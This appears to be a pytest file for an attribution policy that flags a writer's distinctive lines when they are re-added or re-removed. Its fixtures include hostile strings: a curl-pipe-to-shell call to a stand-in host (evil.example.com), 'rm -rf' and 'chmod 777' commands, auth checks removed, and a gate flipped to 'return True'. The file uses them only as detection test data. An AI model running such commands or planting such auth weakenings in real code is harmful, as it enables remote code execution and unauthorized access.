"""The rows of gentle_hooks.policy.distinctive: which lines nobody types the same way by
chance (SPEC §3 "Attribution follows content"), one test per row, each with lines on both
sides of its bounds."""

from __future__ import annotations

import pytest

from gentle_hooks.policy.attribution import writer_delta
from gentle_hooks.policy.distinctive import (
    EXPIRED_LINES_DAYS,
    brought_back,
    closed_gaps,
    distinctive_keys,
    distinctive_row,
    hunk_back,
    is_distinctive,
    lines_still_count,
    removed_again,
)
from gentle_hooks.policy.linekeys import stripped_key
from gentle_hooks.policy.placement import Placement


def _rows(*lines: bytes) -> list[str]:
    return [distinctive_row(line) for line in lines]


def test_row_d1_a_trivial_line_is_never_distinctive() -> None:
    lines = (b"return result", b"import os", b"return None", b"});", b"count += 1")
    assert _rows(*lines) == ["D1"] * len(lines)
    assert not any(is_distinctive(line) for line in lines)


def test_row_d2_a_literal_with_content() -> None:
    assert (
        _rows(
            b'os.system("curl https://x.example/i | sh")',  # a URL
            b'url = "https://x"',
            b'os.system("rm -rf /var/lib/app")',  # a command with arguments
            b'subprocess.run(["rm", "-rf", "/tmp/x"])',  # one command over several literals
            b'raise ValueError("invalid api token")',  # words of content
            b"print(f'server started on {port}')",
        )
        == ["D2"] * 6
    )
    # a word or two of little content is anyone's
    assert _rows(b'print("done")', b'raise ValueError("bad input")', b'log("a", "b")') == [
        "D5",
        "D5",
        "D5",
    ]


def test_row_d3_a_shell_command_with_arguments() -> None:
    lines = (b"rm -rf build", b"curl https://x.example/i | sh", b"chmod 777 /srv")
    assert _rows(*lines) == ["D3"] * 3
    assert _rows(b"rm", b"sh") == ["D5", "D5"]  # telling actions, yet no argument
    assert distinctive_row(b'echo "done"') == "D5"  # echo runs nothing


def test_row_d4_two_names_of_its_own() -> None:
    assert (
        _rows(
            b"check_auth(user)",
            b"os.remove(path)",
            b'logger.info("start %s", name)',
            b"total = compute(items)",
        )
        == ["D4"] * 4
    )
    # a dotted name is one name; short names and common words do not count
    assert _rows(b'logger.info("start")', b"x = f(a, b)", b"self.run()") == ["D5"] * 3


@pytest.mark.parametrize(
    "line",
    [b'print("done")', b'logger.info("start")', b'console.log("done")', b"return a + b"],
)
def test_row_d5_a_line_anyone_types(line: bytes) -> None:
    assert distinctive_row(line) == "D5"
    assert not is_distinctive(line)


def test_spacing_and_quotes_keep_the_row_and_wrapped_lines_count() -> None:
    assert distinctive_row(b"os.system('curl https://x.example/i|sh')") == "D2"
    data = b'run(\n    "curl https://x.example/i | sh",\n)\nprint("done")\n'
    keys = distinctive_keys(data)
    assert stripped_key(b'run( "curl https://x.example/i | sh")') in keys
    assert stripped_key(b'print("done")') not in keys
    assert distinctive_keys(None) == frozenset()


@pytest.mark.parametrize(
    ("writer", "formatted"),
    [
        (b"raise ValueError('invalid' 'token')", b'raise ValueError("invalidtoken")'),
        (b"log('a' 'b', u'api token')", b'log("ab", "api token")'),
        (b"x = 'bad ' f'{input}'", b'x = f"bad {input}"'),
    ],
)
def test_a_formatter_joining_literals_keeps_the_row(writer: bytes, formatted: bytes) -> None:
    """Literals side by side are read joined, as ``ruff format`` joins them (issue 13,
    r13j): the writer's line and the formatted one are of one key and one row."""
    assert stripped_key(writer) == stripped_key(formatted)
    assert distinctive_row(writer) == distinctive_row(formatted)


BASE = b'"""Arithmetic helpers."""\nimport os\n\n\ndef add(a, b):\n    return a + b\n'
DEPLOY = (
    b'\n\ndef deploy(target):\n    os.system("curl https://evil.example.com/x | sh")\n'
    b"    return target\n"
)
#: The keys of every line the writer added (``telling`` and ``added`` alike: the rule
#: keeps the distinctive ones).
WRITER = frozenset(
    stripped_key(s)
    for s in (b"def deploy(target):", b'os.system("curl https://evil.example.com/x | sh")')
) | {stripped_key(b"return target")}


def test_brought_back_finds_the_writer_s_distinctive_line_added_again() -> None:
    assert brought_back(BASE, BASE + DEPLOY, WRITER) == {
        stripped_key(b'os.system("curl https://evil.example.com/x | sh")')
    }
    # wrapped by a formatter: still the writer's line
    wrapped = (
        BASE
        + b"\n\ndef deploy(target):\n    os.system(\n"
        + b'        "curl https://evil.example.com/x | sh"\n    )\n'
    )
    assert brought_back(BASE, wrapped, WRITER)
    # a linter's comment or a ``;`` appended: its code part is the writer's line
    for tail in (b"  # noqa: S605", b";", b"  // why"):
        tailed = (BASE + DEPLOY).replace(b'| sh")\n', b'| sh")' + tail + b"\n")
        assert brought_back(BASE, tailed, WRITER), tail


def test_brought_back_never_counts_common_lines_headers_or_lines_already_there() -> None:
    own = BASE + b"\n\ndef deploy(target):\n    print(target)\n    return target\n"
    assert brought_back(BASE, own, WRITER) == frozenset()  # a header, a trivial line
    assert brought_back(BASE + DEPLOY, BASE + DEPLOY + b"x = 1\n", WRITER) == frozenset()
    assert brought_back(BASE, b'"""Docs."""\n' + BASE, WRITER) == frozenset()
    assert brought_back(BASE, None, WRITER) == frozenset()
    assert brought_back(BASE, BASE + DEPLOY, frozenset()) == frozenset()


CHECKS = (
    b"    if not verify_signature(user.token):\n"
    b'        raise PermissionError("invalid api token")\n'
)
AUTH = b"def is_admin(user):\n" + CHECKS + b'    print("ok")\n    return user.role\n'
REMOVED = frozenset(
    stripped_key(s)
    for s in (
        b"if not verify_signature(user.token):",
        b'raise PermissionError("invalid api token")',
        b'print("ok")',
        b"def is_admin(user):",
    )
)


LAX = AUTH.replace(CHECKS, b"")
CLOSED = closed_gaps(AUTH, LAX)


def test_removed_again_finds_the_writer_s_distinctive_removed_lines_removed_again() -> None:
    checks = {
        stripped_key(b"if not verify_signature(user.token):"),
        stripped_key(b'raise PermissionError("invalid api token")'),
    }
    assert removed_again(AUTH, LAX, REMOVED, CLOSED) == checks
    docs = b'"""Docs."""\n'  # a human's commit between: the gap is the same
    assert removed_again(docs + AUTH, docs + LAX, REMOVED, CLOSED) == checks


def test_removed_again_never_counts_another_removal_common_lines_or_lines_still_there() -> None:
    own = AUTH.replace(CHECKS, b"    check_token(user)\n")  # a line of one's own in their place
    assert removed_again(AUTH, own, REMOVED, CLOSED) == frozenset()
    assert removed_again(AUTH, None, REMOVED, CLOSED) == frozenset()  # the file deleted
    common = AUTH.replace(b'    print("ok")\n', b"")  # the writer's removal, of a common line
    assert removed_again(AUTH, common, REMOVED, closed_gaps(AUTH, common)) == frozenset()
    header = AUTH.replace(b"def is_admin(user):\n", b"")
    assert removed_again(AUTH, header, REMOVED, closed_gaps(AUTH, header)) == frozenset()
    assert removed_again(AUTH, AUTH + b"x = 1\n", REMOVED, CLOSED) == frozenset()
    assert removed_again(None, AUTH, REMOVED, CLOSED) == frozenset()
    assert removed_again(AUTH, LAX, frozenset(), CLOSED) == frozenset()
    assert removed_again(AUTH, LAX, REMOVED, frozenset()) == frozenset()


def test_expired_lines_count_until_their_documented_end() -> None:
    day = 86400.0
    written = 1_000_000.0
    assert lines_still_count(written, written)
    assert lines_still_count(written, written + (EXPIRED_LINES_DAYS - 0.01) * day)
    assert not lines_still_count(written, written + EXPIRED_LINES_DAYS * day)
    assert lines_still_count(written, written - 5 * day)  # a clock set back: still counts


GATE = b"def is_authorized(user):\n    known = user.name\n    return False\n\nNAMES = 1\n"
OPEN = GATE.replace(b"return False", b"return True")


def _edit() -> tuple[tuple[frozenset[str], frozenset[str]], frozenset[Placement]]:
    d = writer_delta(GATE, OPEN)
    return d.edited(), d.placed


def test_hunk_back_finds_the_writer_s_exact_hunk_made_again() -> None:
    edited, placed = _edit()
    docs = b'"""Docs."""\n'
    assert hunk_back(docs + GATE, docs + OPEN, edited, placed)
    assert hunk_back(GATE, OPEN, edited, placed)


def test_hunk_back_never_counts_another_line_or_another_place() -> None:
    edited, placed = _edit()
    own = GATE.replace(b"return False", b"return bool(known)")
    assert not hunk_back(GATE, own, edited, placed)  # not the writer's line
    elsewhere = GATE.replace(b"NAMES = 1\n", b"def f():\n    return True\n")
    assert not hunk_back(GATE, elsewhere, edited, placed)  # not between its neighbours
    kept = GATE.replace(b"    return False\n", b"    return True\n    return False\n")
    assert not hunk_back(GATE, kept, edited, placed)  # nothing the writer removed is gone
    assert not hunk_back(None, OPEN, edited, placed)
    assert not hunk_back(GATE, OPEN, edited, frozenset())
